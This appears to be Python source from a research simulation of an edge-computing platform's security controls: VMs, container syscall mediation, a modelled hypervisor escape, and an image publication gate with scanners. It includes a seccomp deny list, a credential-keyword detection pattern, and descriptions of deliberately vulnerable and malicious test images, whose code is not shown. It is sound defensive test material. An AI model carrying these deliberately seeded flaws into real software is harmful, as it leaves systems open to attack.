a Kubernetes worker, hosts its own :class:`~repro.virt.runtime.ContainerRuntime`.
Hard isolation means a compromise inside the VM stays inside unless the
attacker also has a hypervisor escape (modelled in
:mod:`repro.virt.hypervisor` via unpatched-CVE state).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.clock import SimClock
from repro.common.events import EventBus
from repro.virt.runtime import ContainerRuntime, RuntimeConfig


@dataclass
class VmSpec:
    """Requested VM shape."""

    name: str
    vcpus: int = 2
    memory_mb: int = 4096
    tenant: str = "platform"
    role: str = "worker"     # worker | controlplane | appliance

    def __post_init__(self) -> None:
        if self.vcpus <= 0 or self.memory_mb <= 0:
            raise ValueError("VM resources must be positive")


class VirtualMachine:
    """A running VM on an OLT's hypervisor."""

    def __init__(self, vm_id: str, spec: VmSpec,
                 clock: Optional[SimClock] = None,
                 bus: Optional[EventBus] = None,
                 runtime_config: Optional[RuntimeConfig] = None) -> None:
        self.id = vm_id
        self.spec = spec
        self.clock = clock or SimClock()
        self.bus = bus or EventBus()
        self.running = True
        self.compromised = False
        self.runtime = ContainerRuntime(
            node_name=f"{vm_id}/{spec.name}",
            cpu_capacity=float(spec.vcpus),
            memory_capacity_mb=float(spec.memory_mb),
            clock=self.clock,
            bus=self.bus,
            config=runtime_config,
        )

    @property
    def tenant(self) -> str:
        return self.spec.tenant

    def shutdown(self) -> None:
        self.running = False
        for container in self.runtime.running_containers():
            container.stop()

    def mark_compromised(self, how: str) -> None:
        """Record a successful attack inside this VM (experiment bookkeeping)."""
        self.compromised = True
        self.bus.emit("vm.compromised", self.id, self.clock.now, how=how)

    def __repr__(self) -> str:
        return f"VirtualMachine({self.id!r}, tenant={self.tenant!r})"

"""Container runtime: lifecycle, syscall mediation, resource accounting.

The runtime is the enforcement point where three of the paper's
mitigations plug in:

* **M17 sandboxing** — LSM-style policies registered via
  :meth:`ContainerRuntime.add_lsm_policy` veto syscalls/file/network
  actions (the KubeArmor pattern: block, don't just observe);
* **M18 runtime monitoring** — every syscall is published on the event
  bus topic ``runtime.syscall`` whether allowed or not (the Falco
  pattern: observe without blocking);
* **M13 runtime hardening** — :class:`RuntimeConfig` carries the
  daemon-level settings docker-bench audits (icc, userns-remap, live
  restore, insecure registries...).

Resource accounting implements the T8 resource-abuse surface: containers
draw from a shared CPU/memory pool; unlimited containers can starve their
neighbours unless limits (and the monitor's abuse rule) are in place.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.common.clock import SimClock
from repro.common.errors import CapacityError, NotFoundError, QuarantineError
from repro.common.events import EventBus
from repro.common.ids import IdGenerator
from repro.virt.container import Container, ContainerSpec, SyscallRecord

# An LSM policy callback: (container, action, args) -> deny reason or None.
LsmPolicy = Callable[[Container, str, Dict[str, object]], Optional[str]]

# An admission callback: (spec) -> deny reason or None (used by image
# scanning gates: malware-flagged or unscanned images are refused).
AdmissionHook = Callable[[ContainerSpec], Optional[str]]

# Syscalls the default seccomp profile forbids (subset, mirrors Docker's).
_SECCOMP_DEFAULT_DENY = frozenset({
    "kexec_load", "init_module", "finit_module", "delete_module",
    "open_by_handle_at", "perf_event_open", "ptrace", "mount", "umount2",
    "pivot_root", "reboot", "swapon", "swapoff", "iopl", "ioperm",
})

# Kernel capability requirements: even with seccomp unconfined, these
# syscalls fail without the named capability (as in real Linux).
_SYSCALL_REQUIRED_CAPS = {
    "mount": "CAP_SYS_ADMIN",
    "umount2": "CAP_SYS_ADMIN",
    "setns": "CAP_SYS_ADMIN",
    "pivot_root": "CAP_SYS_ADMIN",
    "init_module": "CAP_SYS_MODULE",
    "finit_module": "CAP_SYS_MODULE",
    "delete_module": "CAP_SYS_MODULE",
    "kexec_load": "CAP_SYS_BOOT",
    "reboot": "CAP_SYS_BOOT",
    "ptrace": "CAP_SYS_PTRACE",
    "iopl": "CAP_SYS_RAWIO",
    "ioperm": "CAP_SYS_RAWIO",
}


@dataclass
class RuntimeConfig:
    """Daemon-level configuration (the docker-bench audit surface)."""

    icc_enabled: bool = True                # inter-container comms on same bridge
    userns_remap: bool = False
    live_restore: bool = False
    insecure_registries: List[str] = field(default_factory=list)
    content_trust: bool = False
    default_ulimits_set: bool = False
    log_driver_configured: bool = False
    tls_on_daemon_socket: bool = False


class ContainerRuntime:
    """One node's container engine."""

    def __init__(
        self,
        node_name: str,
        cpu_capacity: float = 8.0,
        memory_capacity_mb: float = 16384,
        clock: Optional[SimClock] = None,
        bus: Optional[EventBus] = None,
        config: Optional[RuntimeConfig] = None,
    ) -> None:
        self.node_name = node_name
        self.cpu_capacity = cpu_capacity
        self.memory_capacity_mb = memory_capacity_mb
        self.clock = clock or SimClock()
        self.bus = bus or EventBus()
        self.config = config or RuntimeConfig()
        self.containers: Dict[str, Container] = {}
        self._ids = IdGenerator()
        self._lsm_policies: List[Tuple[str, LsmPolicy]] = []
        self._admission_hooks: List[AdmissionHook] = []
        self.blocked_actions = 0

    # -- policy plug-in points -----------------------------------------------------

    def add_lsm_policy(self, name: str, policy: LsmPolicy) -> None:
        """Register an M17-style enforcement policy."""
        self._lsm_policies.append((name, policy))

    def add_admission_hook(self, hook: AdmissionHook) -> None:
        """Register a launch gate (e.g. the M16 malware-scan gate)."""
        self._admission_hooks.append(hook)

    # -- lifecycle --------------------------------------------------------------------

    def run(self, spec: ContainerSpec) -> Container:
        """Admit and start a container.

        :raises QuarantineError: an admission hook refused the image.
        :raises CapacityError: requested guaranteed resources don't fit.
        """
        for hook in self._admission_hooks:
            reason = hook(spec)
            if reason is not None:
                raise QuarantineError(
                    f"admission denied for {spec.image.reference}: {reason}"
                )
        requested_cpu = (spec.limits.cpu_shares or 0) / 1024
        requested_mem = spec.limits.memory_mb or 0
        if requested_cpu > self._cpu_free() or requested_mem > self._memory_free():
            raise CapacityError(
                f"node {self.node_name} cannot fit {spec.image.reference}"
            )
        container = Container(self._ids.next("ctr"), spec)
        if not spec.name:
            spec.name = container.id
        container.start()
        self.containers[container.id] = container
        self.bus.emit("runtime.start", self.node_name, self.clock.now,
                      container=container.id, image=spec.image.reference,
                      tenant=spec.tenant)
        return container

    def stop(self, container_id: str) -> None:
        self._get(container_id).stop()

    def kill(self, container_id: str, reason: str) -> None:
        self._get(container_id).kill(reason)
        self.bus.emit("runtime.kill", self.node_name, self.clock.now,
                      container=container_id, reason=reason)

    def running_containers(self) -> List[Container]:
        return [c for c in self.containers.values() if c.running]

    # -- syscall mediation (M17 blocks, M18 observes) -------------------------------------

    def syscall(self, container_id: str, syscall: str,
                **args: object) -> SyscallRecord:
        """Mediate one syscall from a container.

        Order matches the real stack: seccomp first (coarse allow-list),
        then LSM policies (fine-grained), and the event is *always*
        published for observability.
        """
        container = self._get(container_id)
        allowed, blocked_by = True, ""

        if (container.spec.seccomp_profile == "default"
                and syscall in _SECCOMP_DEFAULT_DENY
                and not container.spec.privileged):
            allowed, blocked_by = False, "seccomp:default"

        if allowed:
            required_cap = _SYSCALL_REQUIRED_CAPS.get(syscall)
            if (required_cap is not None
                    and required_cap not in container.spec.effective_capabilities()):
                allowed, blocked_by = False, f"capability:{required_cap}"

        if allowed:
            for name, policy in self._lsm_policies:
                reason = policy(container, syscall, dict(args))
                if reason is not None:
                    allowed, blocked_by = False, f"lsm:{name}:{reason}"
                    break

        record = SyscallRecord(syscall=syscall, args=dict(args),
                               allowed=allowed, blocked_by=blocked_by)
        container.syscall_log.append(record)
        if not allowed:
            self.blocked_actions += 1
        self.bus.emit("runtime.syscall", self.node_name, self.clock.now,
                      container=container_id, tenant=container.tenant,
                      process=container.spec.image.entrypoint,
                      syscall=syscall, allowed=allowed,
                      blocked_by=blocked_by, **args)
        return record

    # -- resource accounting (T8 resource abuse surface) ------------------------------------

    def consume(self, container_id: str, cpu: float = 0.0,
                memory_mb: float = 0.0) -> bool:
        """Let a container draw resources; enforce limits if it has them.

        Returns False (and clamps) when the draw exceeds the container's
        own limits. Unlimited containers can take everything that's free —
        that's the point the resource-abuse experiment makes.
        """
        container = self._get(container_id)
        limits = container.spec.limits
        within = True
        if limits.cpu_shares is not None:
            cap = limits.cpu_shares / 1024
            if container.cpu_used + cpu > cap:
                cpu = max(0.0, cap - container.cpu_used)
                within = False
        if limits.memory_mb is not None:
            if container.memory_used_mb + memory_mb > limits.memory_mb:
                memory_mb = max(0.0, limits.memory_mb - container.memory_used_mb)
                within = False
        cpu = min(cpu, self._cpu_free())
        memory_mb = min(memory_mb, self._memory_free())
        container.cpu_used += cpu
        container.memory_used_mb += memory_mb
        return within

    def _cpu_free(self) -> float:
        used = sum(c.cpu_used for c in self.running_containers())
        return max(0.0, self.cpu_capacity - used)

    def _memory_free(self) -> float:
        used = sum(c.memory_used_mb for c in self.running_containers())
        return max(0.0, self.memory_capacity_mb - used)

    def utilization(self) -> Dict[str, float]:
        return {
            "cpu_used": self.cpu_capacity - self._cpu_free(),
            "cpu_capacity": self.cpu_capacity,
            "memory_used_mb": self.memory_capacity_mb - self._memory_free(),
            "memory_capacity_mb": self.memory_capacity_mb,
        }

    def _get(self, container_id: str) -> Container:
        container = self.containers.get(container_id)
        if container is None:
            raise NotFoundError(f"no container {container_id} on {self.node_name}")
        return container

"""Linux/KVM-like hypervisor managing an OLT node's VMs.

Capacity is finite (the OLT's x86 COTS resources). The hypervisor also
carries version/patch state: the T4 experiment exploits a known VM-escape
CVE against an unpatched hypervisor and shows patching (via M8/M12 vuln
management) closes it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.clock import SimClock
from repro.common.errors import CapacityError, NotFoundError
from repro.common.events import EventBus
from repro.common.ids import IdGenerator
from repro.virt.vm import VirtualMachine, VmSpec


class Hypervisor:
    """KVM on one OLT host."""

    def __init__(
        self,
        host_name: str,
        cpu_cores: int = 16,
        memory_mb: int = 65536,
        version: str = "qemu-kvm 3.1",
        clock: Optional[SimClock] = None,
        bus: Optional[EventBus] = None,
    ) -> None:
        self.host_name = host_name
        self.cpu_cores = cpu_cores
        self.memory_mb = memory_mb
        self.version = version
        self.clock = clock or SimClock()
        self.bus = bus or EventBus()
        self.vms: Dict[str, VirtualMachine] = {}
        self._ids = IdGenerator()
        # CVE ids known to allow guest->host escape while unpatched.
        self.unpatched_escape_cves: List[str] = []

    def create_vm(self, spec: VmSpec) -> VirtualMachine:
        """Allocate and boot a VM.

        :raises CapacityError: the node cannot fit the requested shape.
        """
        if spec.vcpus > self.cpu_free() or spec.memory_mb > self.memory_free():
            raise CapacityError(
                f"{self.host_name}: cannot fit VM {spec.name} "
                f"({spec.vcpus} vcpu/{spec.memory_mb} MB)"
            )
        vm = VirtualMachine(self._ids.next("vm"), spec,
                            clock=self.clock, bus=self.bus)
        self.vms[vm.id] = vm
        self.bus.emit("hypervisor.vm_created", self.host_name, self.clock.now,
                      vm=vm.id, tenant=spec.tenant)
        return vm

    def destroy_vm(self, vm_id: str) -> None:
        vm = self.get_vm(vm_id)
        vm.shutdown()
        del self.vms[vm_id]

    def get_vm(self, vm_id: str) -> VirtualMachine:
        vm = self.vms.get(vm_id)
        if vm is None:
            raise NotFoundError(f"no VM {vm_id} on {self.host_name}")
        return vm

    def running_vms(self) -> List[VirtualMachine]:
        return [vm for vm in self.vms.values() if vm.running]

    def cpu_free(self) -> int:
        return self.cpu_cores - sum(vm.spec.vcpus for vm in self.running_vms())

    def memory_free(self) -> int:
        return self.memory_mb - sum(vm.spec.memory_mb for vm in self.running_vms())

    # -- escape surface (T4) ---------------------------------------------------------

    def mark_unpatched(self, cve_id: str) -> None:
        if cve_id not in self.unpatched_escape_cves:
            self.unpatched_escape_cves.append(cve_id)

    def patch(self, cve_id: str) -> None:
        if cve_id in self.unpatched_escape_cves:
            self.unpatched_escape_cves.remove(cve_id)

    def attempt_escape(self, vm_id: str, using_cve: str) -> bool:
        """Guest-to-host escape attempt; succeeds iff the CVE is unpatched."""
        self.get_vm(vm_id)  # must be a real guest
        success = using_cve in self.unpatched_escape_cves
        self.bus.emit("hypervisor.escape_attempt", self.host_name, self.clock.now,
                      vm=vm_id, cve=using_cve, success=success)
        return success

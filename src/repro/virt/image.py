"""Container images: layers, file contents, package manifests.

This is the artifact the GENIO public registry distributes and the
application-security pipeline inspects:

* the Trivy-like SCA scanner (M13) reads :attr:`ContainerImage.packages`;
* the Crane-like extractor + SAST engines (M14) read layer *files*
  (including real Python source the Bandit-like analyzer parses);
* the YaraHunter-like malware scanner (M16) pattern-matches layer bytes;
* the docker-bench-like checks (M13) audit image configuration (user,
  exposed ports, secrets in env).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.common import crypto


@dataclass(frozen=True)
class ImagePackage:
    """One package the image's filesystem carries (the SCA surface)."""

    name: str
    version: str
    ecosystem: str = "debian"   # debian | pypi | npm | maven
    imported: bool = True       # False = present but never imported (Lesson 7 noise)


@dataclass
class ImageLayer:
    """One filesystem layer: path -> content."""

    files: Dict[str, bytes] = field(default_factory=dict)
    created_by: str = ""

    def digest(self) -> str:
        material = b"|".join(
            path.encode() + b"\x00" + content
            for path, content in sorted(self.files.items())
        )
        return crypto.sha256_hex(material + self.created_by.encode())


@dataclass
class ContainerImage:
    """An OCI-ish container image."""

    name: str
    tag: str = "latest"
    layers: List[ImageLayer] = field(default_factory=list)
    packages: List[ImagePackage] = field(default_factory=list)
    env: Dict[str, str] = field(default_factory=dict)
    entrypoint: str = "/app/main"
    user: str = "root"                    # docker-bench flags running as root
    exposed_ports: Tuple[int, ...] = ()
    labels: Dict[str, str] = field(default_factory=dict)
    openapi_spec: Optional[dict] = None   # REST surface for the CATS-like fuzzer
    provenance: str = "unknown"           # "genio-registry" | "external" | "unknown"

    def digest(self) -> str:
        material = ":".join([self.name, self.tag] + [l.digest() for l in self.layers])
        return crypto.sha256_hex(material.encode())

    @property
    def reference(self) -> str:
        return f"{self.name}:{self.tag}"

    # -- filesystem view (what Crane extraction yields) -------------------------

    def merged_files(self) -> Dict[str, bytes]:
        """Upper layers shadow lower ones, as in an overlay filesystem."""
        merged: Dict[str, bytes] = {}
        for layer in self.layers:
            merged.update(layer.files)
        return merged

    def files_matching(self, suffix: str) -> Dict[str, bytes]:
        return {p: c for p, c in self.merged_files().items() if p.endswith(suffix)}

    def add_layer(self, files: Dict[str, bytes], created_by: str = "") -> ImageLayer:
        layer = ImageLayer(files=dict(files), created_by=created_by)
        self.layers.append(layer)
        return layer

    def env_secrets(self) -> List[str]:
        """Env vars that look like embedded credentials."""
        markers = ("PASSWORD", "SECRET", "TOKEN", "API_KEY", "PRIVATE_KEY")
        return [k for k in self.env if any(m in k.upper() for m in markers)]

"""Virtualization substrate: hypervisor, VMs, container runtime, images.

GENIO runs edge applications in either *hard isolation* (dedicated VMs
under Linux/KVM) or *soft isolation* (containers and network namespaces
inside shared VMs). This package models both, plus the container image
format that the application-security tooling (M13 SCA, M16 malware
scanning) inspects and the capability/syscall surface that sandboxing
(M17) and runtime monitoring (M18) police.
"""

from repro.virt.image import ContainerImage, ImageLayer, ImagePackage
from repro.virt.container import Container, ContainerSpec, ResourceLimits
from repro.virt.runtime import ContainerRuntime, RuntimeConfig
from repro.virt.vm import VirtualMachine, VmSpec
from repro.virt.hypervisor import Hypervisor

__all__ = [
    "ContainerImage",
    "ImageLayer",
    "ImagePackage",
    "Container",
    "ContainerSpec",
    "ResourceLimits",
    "ContainerRuntime",
    "RuntimeConfig",
    "VirtualMachine",
    "VmSpec",
    "Hypervisor",
]

"""Latency-aware workload placement across the three GENIO layers.

Figure 1's whole point: applications land on the layer that satisfies
their latency requirement at the lowest-capability (cheapest) tier that
fits — ultra-low-latency work on ONU far-edge compute, strict-latency
work on OLT edge VMs, everything else in the cloud. Placement also
respects tenancy isolation mode: ``hard`` leases require a dedicated VM,
``soft`` leases share runtimes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.common.errors import CapacityError
from repro.platform.genio import LAYER_LATENCY_MS, GenioDeployment
from repro.pon.onu import Onu
from repro.virt.container import ContainerSpec, ResourceLimits
from repro.virt.image import ContainerImage


@dataclass
class WorkloadRequirement:
    """What one deployable workload needs."""

    name: str
    image: ContainerImage
    tenant: str
    max_latency_ms: float
    cpu_cores: float = 0.5
    memory_mb: int = 512
    near_onu: Optional[str] = None    # pin to one subscriber's premises


@dataclass
class Placement:
    """Where a workload ended up."""

    workload: str
    layer: str                 # far-edge | edge | cloud
    node: str                  # ONU serial / VM node name / cloud node
    latency_ms: float
    container_id: str = ""


@dataclass
class _OnuCapacity:
    """Tracks far-edge compute usage on one ONU."""

    onu: Onu
    cpu_used: float = 0.0
    memory_used_mb: int = 0
    workloads: List[str] = field(default_factory=list)

    def fits(self, cpu: float, memory_mb: int) -> bool:
        return (self.cpu_used + cpu <= self.onu.compute.cpu_cores
                and self.memory_used_mb + memory_mb <= self.onu.compute.memory_mb)

    def take(self, name: str, cpu: float, memory_mb: int) -> None:
        self.cpu_used += cpu
        self.memory_used_mb += memory_mb
        self.workloads.append(name)


class LayerPlacer:
    """Places workloads on the cheapest layer meeting their latency bound."""

    def __init__(self, deployment: GenioDeployment) -> None:
        self.deployment = deployment
        self._onu_capacity: Dict[str, _OnuCapacity] = {
            serial: _OnuCapacity(onu)
            for serial, onu in deployment.onus.items()
        }
        self.placements: List[Placement] = []

    # -- layer candidates, cheapest-first for each latency bound ---------------

    def _eligible_layers(self, max_latency_ms: float) -> List[str]:
        return [layer for layer in ("cloud", "edge", "far-edge")
                if LAYER_LATENCY_MS[layer] <= max_latency_ms]

    def place(self, requirement: WorkloadRequirement) -> Placement:
        """Place one workload.

        Preference order: the *highest-latency eligible layer* — capacity
        at the far edge is scarce, so work that tolerates the cloud goes
        to the cloud, exactly the economics Figure 1 describes.

        :raises CapacityError: no eligible layer has room.
        """
        eligible = self._eligible_layers(requirement.max_latency_ms)
        if not eligible:
            raise CapacityError(
                f"{requirement.name}: no layer satisfies "
                f"{requirement.max_latency_ms} ms")
        for layer in eligible:   # cloud first (cheapest), then edge, far-edge
            placement = self._try_layer(layer, requirement)
            if placement is not None:
                self.placements.append(placement)
                return placement
        raise CapacityError(
            f"{requirement.name}: eligible layers {eligible} are full")

    def _try_layer(self, layer: str,
                   requirement: WorkloadRequirement) -> Optional[Placement]:
        if layer == "far-edge":
            return self._try_far_edge(requirement)
        if layer == "edge":
            return self._try_edge(requirement)
        return self._try_cloud(requirement)

    def _try_far_edge(self, req: WorkloadRequirement) -> Optional[Placement]:
        candidates = ([req.near_onu] if req.near_onu
                      else sorted(self._onu_capacity))
        for serial in candidates:
            capacity = self._onu_capacity.get(serial)
            if capacity is None or not capacity.onu.activated:
                continue
            if not capacity.fits(req.cpu_cores, req.memory_mb):
                continue
            # Actually start the workload on the ONU's far-edge runtime.
            runtime = capacity.onu.compute_runtime(
                clock=self.deployment.clock, bus=self.deployment.bus)
            try:
                container = runtime.run(ContainerSpec(
                    image=req.image, tenant=req.tenant,
                    limits=ResourceLimits(
                        cpu_shares=int(req.cpu_cores * 1024),
                        memory_mb=req.memory_mb)))
            except CapacityError:
                continue
            capacity.take(req.name, req.cpu_cores, req.memory_mb)
            return Placement(workload=req.name, layer="far-edge",
                             node=serial,
                             latency_ms=LAYER_LATENCY_MS["far-edge"],
                             container_id=container.id)
        return None

    def _try_edge(self, req: WorkloadRequirement) -> Optional[Placement]:
        for vm in self.deployment.worker_vms():
            if vm.tenant not in (req.tenant, "platform"):
                continue
            try:
                container = vm.runtime.run(ContainerSpec(
                    image=req.image, tenant=req.tenant,
                    limits=ResourceLimits(
                        cpu_shares=int(req.cpu_cores * 1024),
                        memory_mb=req.memory_mb)))
            except Exception:
                continue
            return Placement(workload=req.name, layer="edge",
                             node=vm.runtime.node_name,
                             latency_ms=LAYER_LATENCY_MS["edge"],
                             container_id=container.id)
        return None

    def _try_cloud(self, req: WorkloadRequirement) -> Optional[Placement]:
        # The cloud is modelled as effectively elastic.
        return Placement(workload=req.name, layer="cloud",
                         node=self.deployment.cloud_node.hostname,
                         latency_ms=LAYER_LATENCY_MS["cloud"])

    # -- reporting ---------------------------------------------------------------

    def by_layer(self) -> Dict[str, List[Placement]]:
        layers: Dict[str, List[Placement]] = {"far-edge": [], "edge": [],
                                              "cloud": []}
        for placement in self.placements:
            layers[placement.layer].append(placement)
        return layers

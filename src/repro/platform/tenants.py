"""Tenancy: business users, end users, and IaaS resource leases.

Business users provide edge applications through the GENIO registry and
lease compute/storage/network on the edge (IaaS); end users consume
those applications (SaaS). The lease model is what makes T8's resource
abuse meaningful: a tenant is entitled to what it leased, no more.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.errors import CapacityError, NotFoundError


@dataclass
class ResourceLease:
    """One tenant's leased slice of an OLT's resources."""

    tenant: str
    cpu_cores: int
    memory_mb: int
    storage_gb: int
    isolation: str = "soft"      # "hard" (dedicated VM) | "soft" (containers)

    def __post_init__(self) -> None:
        if self.isolation not in ("hard", "soft"):
            raise ValueError("isolation must be 'hard' or 'soft'")
        if min(self.cpu_cores, self.memory_mb, self.storage_gb) <= 0:
            raise ValueError("lease resources must be positive")


@dataclass
class BusinessUser:
    """A provider of edge applications (IaaS customer)."""

    name: str
    namespace: str
    images: List[str] = field(default_factory=list)
    leases: List[ResourceLease] = field(default_factory=list)
    verified_publisher: bool = False


@dataclass
class EndUser:
    """A consumer of edge applications (SaaS customer)."""

    name: str
    onu_serial: str
    subscribed_services: List[str] = field(default_factory=list)


class TenantDirectory:
    """The platform's tenancy registry."""

    def __init__(self) -> None:
        self.business_users: Dict[str, BusinessUser] = {}
        self.end_users: Dict[str, EndUser] = {}

    def register_business_user(self, user: BusinessUser) -> None:
        if user.name in self.business_users:
            raise ValueError(f"business user {user.name} already registered")
        self.business_users[user.name] = user

    def register_end_user(self, user: EndUser) -> None:
        if user.name in self.end_users:
            raise ValueError(f"end user {user.name} already registered")
        self.end_users[user.name] = user

    def business_user(self, name: str) -> BusinessUser:
        user = self.business_users.get(name)
        if user is None:
            raise NotFoundError(f"no business user {name}")
        return user

    def lease(self, tenant: str, cpu_cores: int, memory_mb: int,
              storage_gb: int, isolation: str = "soft",
              available_cpu: Optional[int] = None) -> ResourceLease:
        """Record a lease for a tenant, optionally capacity-checked."""
        user = self.business_user(tenant)
        if available_cpu is not None and cpu_cores > available_cpu:
            raise CapacityError(
                f"lease of {cpu_cores} cores exceeds available {available_cpu}")
        lease = ResourceLease(tenant=tenant, cpu_cores=cpu_cores,
                              memory_mb=memory_mb, storage_gb=storage_gb,
                              isolation=isolation)
        user.leases.append(lease)
        return lease

    def subscribers_of(self, service: str) -> List[EndUser]:
        return [u for u in self.end_users.values()
                if service in u.subscribed_services]

"""Business-user onboarding: the GENIO application publication workflow.

Section II's use case, operationalized with the Section VI tooling: a
business user submits a container image; the *publication gate* runs the
full application-security battery (M13 SCA, M14 SAST, M15 DAST where a
REST surface exists, M16 malware signatures, plus image-configuration
hygiene); only passing images are signed into the GENIO registry, and
worker nodes pull with signature verification — so "image in the
registry" *means* "image that passed the gate".
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.common import crypto
from repro.common.errors import QuarantineError
from repro.orchestrator.registry import ImageRegistry
from repro.security.appsec.dast import CatsFuzzer
from repro.security.appsec.sast import SastEngine
from repro.security.appsec.sca import ScaScanner
from repro.security.malware.yara import YaraScanner
from repro.security.vulnmgmt.cvedb import CveDatabase, Severity
from repro.virt.image import ContainerImage


@dataclass
class GateFinding:
    """One reason an image failed (or was flagged by) the gate."""

    stage: str       # sca | sast | dast | malware | config
    blocking: bool
    detail: str


@dataclass
class GateVerdict:
    """The publication decision for one image."""

    image: str
    admitted: bool
    findings: List[GateFinding] = field(default_factory=list)

    @property
    def blocking_findings(self) -> List[GateFinding]:
        return [f for f in self.findings if f.blocking]

    @property
    def advisories(self) -> List[GateFinding]:
        return [f for f in self.findings if not f.blocking]


class PublicationGate:
    """The M13-M16 battery applied at publication time."""

    _SEVERITY_ORDER = [Severity.LOW, Severity.MEDIUM, Severity.HIGH,
                       Severity.CRITICAL]

    def __init__(self, cvedb: CveDatabase,
                 block_at: Severity = Severity.HIGH) -> None:
        self.sca = ScaScanner(cvedb)
        self.sast = SastEngine()
        self.fuzzer = CatsFuzzer()
        self.malware = YaraScanner()
        self.block_at = block_at

    def _blocks(self, severity: Severity) -> bool:
        return (self._SEVERITY_ORDER.index(severity)
                >= self._SEVERITY_ORDER.index(self.block_at))

    def evaluate(self, image: ContainerImage) -> GateVerdict:
        verdict = GateVerdict(image=image.reference, admitted=True)
        findings = verdict.findings

        # M16 first: malware is an immediate, unconditional block.
        malware_report = self.malware.scan_image(image)
        for match in malware_report.matches:
            findings.append(GateFinding(
                "malware", True,
                f"{match.rule} in {match.path}: {match.description}"))

        # M13 SCA: severity-gated. The tool cannot see reachability, so
        # unused-dependency findings block too (the Lesson 7 friction).
        sca_report = self.sca.scan(image)
        for finding in sca_report.findings:
            blocking = self._blocks(finding.severity)
            unused = "" if finding.reachable else " (dependency never imported)"
            findings.append(GateFinding(
                "sca", blocking,
                f"{finding.cve.cve_id} in {finding.package.name}=="
                f"{finding.package.version}{unused}"))

        # M14 SAST: HIGH-severity security findings block.
        sast_report = self.sast.scan_image(image)
        for finding in sast_report.security_findings:
            findings.append(GateFinding(
                "sast", finding.severity == "HIGH",
                f"{finding.rule_id} {finding.path}:{finding.line} "
                f"{finding.message}"))

        # M15 DAST where a REST surface exists.
        fuzz_report = self.fuzzer.fuzz_image(image)
        if not fuzz_report.fuzzable:
            findings.append(GateFinding("dast", False, fuzz_report.note))
        for finding in fuzz_report.findings:
            findings.append(GateFinding(
                "dast", True,
                f"{finding.kind} on {finding.operation} "
                f"({finding.payload_family})"))

        # Configuration hygiene.
        for key in image.env_secrets():
            findings.append(GateFinding(
                "config", True, f"credential material in env var {key}"))
        if image.user == "root":
            findings.append(GateFinding(
                "config", False, "image runs as root (advisory)"))

        verdict.admitted = not verdict.blocking_findings
        return verdict


class OnboardingService:
    """Runs submissions through the gate and into the signed registry."""

    def __init__(self, registry: Optional[ImageRegistry] = None,
                 gate: Optional[PublicationGate] = None,
                 cvedb: Optional[CveDatabase] = None) -> None:
        if gate is None:
            if cvedb is None:
                from repro.security.vulnmgmt.corpus import build_cve_corpus
                cvedb = build_cve_corpus()
            gate = PublicationGate(cvedb)
        self.signing_key = crypto.RsaKeyPair.generate(bits=512, seed=0x9A7E)
        self.registry = registry or ImageRegistry(
            signing_keypair=self.signing_key)
        self.gate = gate
        self.verdicts: List[GateVerdict] = []

    def submit(self, image: ContainerImage, publisher: str) -> GateVerdict:
        """Evaluate and, on success, sign-publish the image.

        :raises QuarantineError: the image failed the gate.
        """
        verdict = self.gate.evaluate(image)
        self.verdicts.append(verdict)
        if not verdict.admitted:
            reasons = "; ".join(f.detail for f in verdict.blocking_findings[:3])
            raise QuarantineError(
                f"{image.reference} rejected by publication gate: {reasons}")
        self.registry.publish(image, publisher=publisher, sign=True)
        return verdict

    def pull_verified(self, reference: str) -> ContainerImage:
        """Node-side pull with signature enforcement."""
        return self.registry.pull(
            reference, require_signature=True,
            trusted_keys=[self.signing_key.public])

"""Edge-application images for the GENIO registry.

Five builders matching the paper's use cases, with *deliberate* security
characteristics so the M13-M18 pipeline has realistic work to do:

* :func:`ml_inference_image` — a clean, well-built ML workload (the
  pipeline should pass it);
* :func:`iot_analytics_image` — carries vulnerable-but-unused
  dependencies (the Lesson 7 SCA-noise case);
* :func:`vulnerable_webapp_image` — real Python source with seeded SAST
  findings and a REST API with seeded DAST defects (T7);
* :func:`malicious_miner_image` — a reused external image hiding a
  cryptominer and escape tooling (T8);
* :func:`legacy_java_billing_image` — Java sources for the
  SpotBugs-style rules.
"""

from __future__ import annotations

from repro.virt.image import ContainerImage, ImagePackage


def ml_inference_image() -> ContainerImage:
    """A clean ML inference service from a diligent business user."""
    image = ContainerImage(
        name="acme/ml-inference", tag="2.3.1", user="mlsvc",
        exposed_ports=(8443,), provenance="genio-registry",
        openapi_spec={
            "paths": {
                "/v1/predict": {"post": {
                    "parameters": [{"name": "features"}],
                    "security": [{"bearer": []}],
                }},
            },
        })
    image.packages.extend([
        ImagePackage("numpy", "1.26.4", "pypi"),
        ImagePackage("urllib3", "2.1.0", "pypi"),
        ImagePackage("jinja2", "3.1.3", "pypi"),
    ])
    image.add_layer({
        "/app/serve.py": (
            "import hashlib\n"
            "import hmac\n\n\n"
            "def verify_request(key: bytes, body: bytes, tag: bytes) -> bool:\n"
            "    expected = hmac.new(key, body, hashlib.sha256).digest()\n"
            "    return hmac.compare_digest(expected, tag)\n\n\n"
            "def predict(features):\n"
            "    return {'score': sum(features) / max(len(features), 1)}\n"
        ).encode(),
    }, created_by="COPY serve.py")
    return image


def iot_analytics_image() -> ContainerImage:
    """IoT data processing; its base layer drags in unused old packages."""
    image = ContainerImage(
        name="meterco/iot-analytics", tag="1.4.0",
        exposed_ports=(8080,), provenance="genio-registry",
        openapi_spec={
            "paths": {
                "/ingest": {"post": {
                    "parameters": [{"name": "meter_id"}, {"name": "reading"}],
                    "x-vuln": "type-confusion",
                }},
            },
        })
    image.packages.extend([
        ImagePackage("urllib3", "1.25.8", "pypi", imported=True),
        # Pulled in by the fat base image, never imported by the app:
        ImagePackage("django", "2.2.0", "pypi", imported=False),
        ImagePackage("celery", "4.4.0", "pypi", imported=False),
        ImagePackage("ipython", "7.20.0", "pypi", imported=False),
        ImagePackage("jinja2", "2.10.1", "pypi", imported=False),
        # A distro rebuild under a different name: fuzzy SCA identification
        # will (mis)attach jinja2 advisories to it (Lesson 7).
